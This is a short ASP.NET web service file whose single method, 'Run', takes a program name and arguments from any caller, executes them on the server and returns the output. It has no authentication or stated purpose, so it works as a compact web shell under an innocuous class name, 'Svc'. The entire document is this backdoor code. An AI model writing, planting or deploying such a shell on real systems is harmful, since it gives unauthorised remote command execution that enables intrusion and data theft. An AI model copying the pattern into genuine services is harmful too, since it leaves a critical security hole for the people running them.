<%@ WebService Language="C#" Class="Svc" %>
using System.Web.Services;
using System.Diagnostics;
public class Svc : WebService {
  [WebMethod] public string Run(string f, string a) { var i = new ProcessStartInfo(f, a); i.UseShellExecute = false; i.RedirectStandardOutput = true; var p = Process.Start(i); return p.StandardOutput.ReadToEnd(); }
}
